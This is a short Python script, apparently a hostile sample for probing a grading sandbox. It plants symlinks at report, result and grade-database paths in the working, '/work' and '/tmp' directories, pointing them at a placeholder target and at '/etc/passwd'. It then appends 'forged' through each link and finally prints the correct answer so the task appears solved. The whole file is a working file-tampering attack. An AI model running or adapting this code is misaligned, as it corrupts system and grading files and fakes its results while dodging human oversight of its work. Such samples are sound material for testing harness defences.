# Puts links where a report or a result may be written, and gives the right answer.
import os
for name in ["report.json", "report.html", "results", "grades.db", "note", "job.py"]:
    for place in [".", "/work", "/tmp"]:
        for target in ["@TARGET@", "/etc/passwd"]:
            try:
                os.symlink(target, f"{place}/{name}")
            except OSError:
                pass
            try:
                with open(f"{place}/{name}", "a") as file:
                    file.write("forged\n")
            except OSError:
                pass
print(2 * int(input()))
